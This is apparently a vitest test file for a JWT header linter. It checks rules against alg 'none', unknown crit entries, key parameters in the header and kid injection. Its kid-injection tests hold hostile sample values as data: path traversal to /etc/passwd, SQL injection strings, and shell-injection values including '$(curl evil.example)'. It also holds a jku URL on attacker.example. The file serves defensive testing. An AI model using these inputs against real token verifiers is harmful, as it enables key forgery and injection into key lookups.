import { describe, expect, it } from 'vitest';
import { CLEAN_HEADER, CLEAN_PAYLOAD, NOW, rulesOf, tokenOf } from './__fixtures__/tokens';
import { MAX_DETAIL_VALUE } from './detail-value';
import { lintToken } from './lint-token';
import type { Lint } from './types';

function headerLints(header: Record<string, unknown>): Lint[] {
  return lintToken({ parsed: tokenOf(header, CLEAN_PAYLOAD), now: NOW }).filter(
    (lint) => lint.part === 'header',
  );
}

function only(header: Record<string, unknown>, rule: string): Lint[] {
  return headerLints(header).filter((lint) => lint.rule === rule);
}

describe('alg-none (RFC 7518 §3.6, RFC 8725 §3.2)', () => {
  it('flags alg "none" as danger', () => {
    expect(only({ alg: 'none', typ: 'JWT' }, 'alg-none')).toEqual([
      {
        rule: 'alg-none',
        severity: 'danger',
        part: 'header',
        source: 'RFC 8725 §3.2',
        detail: { alg: 'none', exact: true },
      },
    ]);
  });

  it('flags every spelling, and says which one (case-folding verifiers accepted "noNE")', () => {
    for (const alg of ['None', 'NONE', 'noNE']) {
      expect(only({ alg }, 'alg-none')[0]?.detail).toEqual({ alg, exact: false });
    }
  });

  it('does not flag a real algorithm, a non-string alg, or a name that only contains none', () => {
    expect(only({ alg: 'HS256' }, 'alg-none')).toEqual([]);
    expect(only({ alg: ['none'] }, 'alg-none')).toEqual([]);
    expect(only({ alg: 'none ' }, 'alg-none')).toEqual([]);
  });
});

describe('crit-unknown (RFC 7515 §4.1.11)', () => {
  it('flags a critical extension this page does not implement', () => {
    expect(only({ alg: 'HS256', crit: ['exp'], exp: NOW }, 'crit-unknown')).toEqual([
      {
        rule: 'crit-unknown',
        severity: 'danger',
        part: 'header',
        source: 'RFC 7515 §4.1.11',
        detail: { reason: 'not-understood', names: '["exp"]', count: 1 },
      },
    ]);
  });

  it('accepts b64 (RFC 7797 §6), which this page understands', () => {
    expect(only({ alg: 'HS256', b64: false, crit: ['b64'] }, 'crit-unknown')).toEqual([]);
  });

  it('reports names absent from the header, registered names and duplicates, one finding each', () => {
    const lints = only(
      { alg: 'HS256', b64: false, crit: ['b64', 'alg', 'nope', 'b64'] },
      'crit-unknown',
    );
    expect(lints.map((lint) => lint.detail)).toEqual([
      { reason: 'registered', names: '["alg"]', count: 1 },
      { reason: 'absent', names: '["nope"]', count: 1 },
      { reason: 'duplicate', names: '["b64"]', count: 1 },
    ]);
  });

  it('flags a crit that is not a non-empty array of strings', () => {
    for (const crit of [[], 'b64', [1], null, {}]) {
      expect(only({ alg: 'HS256', crit }, 'crit-unknown')[0]?.detail, JSON.stringify(crit)).toEqual(
        {
          reason: 'malformed',
        },
      );
    }
  });
});

describe('kid-injection (RFC 8725 §3.10)', () => {
  const kind = (kid: unknown): unknown =>
    only({ alg: 'HS256', kid }, 'kid-injection')[0]?.detail?.kind;

  it('flags path traversal, absolute paths, NUL and file: URLs', () => {
    expect(kind('../../../../dev/null')).toBe('path');
    expect(kind('..\\..\\keys\\k1')).toBe('path');
    expect(kind('%2e%2e%2fetc%2fpasswd')).toBe('path');
    expect(kind('/dev/null')).toBe('path');
    expect(kind('C:\\keys\\k1.pem')).toBe('path');
    expect(kind('key\0.pem')).toBe('path');
    expect(kind('file:///etc/passwd')).toBe('path');
  });

  it('flags SQL quotes, separators, comments and keywords', () => {
    expect(kind("x' UNION SELECT 'key")).toBe('sql');
    expect(kind('1; DROP TABLE keys')).toBe('sql');
    expect(kind('1 OR 1=1')).toBe('sql');
    expect(kind('k1 -- comment')).toBe('sql');
    expect(kind('k1/*x*/')).toBe('sql');
  });

  it('flags shell metacharacters', () => {
    expect(kind('key|whoami')).toBe('command');
    expect(kind('$(curl evil.example)')).toBe('command');
    expect(kind('`id`')).toBe('command');
  });

  it('reports the value, cut to 200 characters', () => {
    const detail = only({ alg: 'HS256', kid: `../${'a'.repeat(300)}` }, 'kid-injection')[0]?.detail;
    expect(detail).toMatchObject({ kind: 'path', truncated: true });
    expect(String(detail?.value)).toHaveLength(MAX_DETAIL_VALUE);
  });

  it('does not flag ordinary key IDs: UUIDs, thumbprints, dates, URLs, Cognito-style base64', () => {
    for (const kid of [
      '0a6b944d-d2fb-46fc-a85e-0295c986cd9f',
      'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9X--',
      '2024-01-15',
      'https://example.com/keys/1',
      'abcdEFGH1234/ijklMNOP+5678qrstUVWX=',
      'key-1.pem',
    ]) {
      expect(kind(kid), kid).toBeUndefined();
    }
    expect(kind(42)).toBeUndefined();
  });
});

describe('header-jwk, header-jku, header-x5u, header-x5c (RFC 7515 §4.1.2-§4.1.6)', () => {
  it('warns about an embedded jwk, quoting it as JSON', () => {
    const jwk = {
      kty: 'oct',
      k: 'AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ-EstJQLr_T-1qS0gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr1Z9CAow',
    };
    expect(only({ alg: 'HS256', jwk }, 'header-jwk')).toEqual([
      {
        rule: 'header-jwk',
        severity: 'warning',
        part: 'header',
        source: 'RFC 7515 §4.1.3',
        detail: { value: JSON.stringify(jwk), truncated: false },
      },
    ]);
  });

  it('warns about jku and x5u URLs (SSRF, RFC 8725 §3.10)', () => {
    const url = 'https://attacker.example/jwks.json';
    expect(only({ alg: 'RS256', jku: url }, 'header-jku')[0]).toMatchObject({
      severity: 'warning',
      source: 'RFC 8725 §3.10',
      detail: { value: url, truncated: false },
    });
    expect(only({ alg: 'RS256', x5u: url }, 'header-x5u')[0]?.detail).toEqual({
      value: url,
      truncated: false,
    });
  });

  it('notes an x5c chain as info, with its length and the value cut to 200 characters', () => {
    const chain = ['MII' + 'A'.repeat(400), 'MII' + 'B'.repeat(400)];
    const [lint] = only({ alg: 'RS256', x5c: chain }, 'header-x5c');
    expect(lint).toMatchObject({ severity: 'info', detail: { truncated: true, count: 2 } });
    expect(String(lint?.detail?.value)).toHaveLength(MAX_DETAIL_VALUE);
  });

  it('says nothing when the header carries no key parameters', () => {
    expect(headerLints(CLEAN_HEADER)).toEqual([]);
  });
});

describe('typ-missing (RFC 8725 §3.11, explicit typing)', () => {
  it('notes a header without typ as info', () => {
    expect(only({ alg: 'HS256' }, 'typ-missing')).toEqual([
      { rule: 'typ-missing', severity: 'info', part: 'header', source: 'RFC 8725 §3.11' },
    ]);
  });

  it('is quiet when typ is present, whatever its value', () => {
    expect(rulesOf(headerLints({ alg: 'HS256', typ: 'at+jwt' }))).toEqual([]);
  });
});
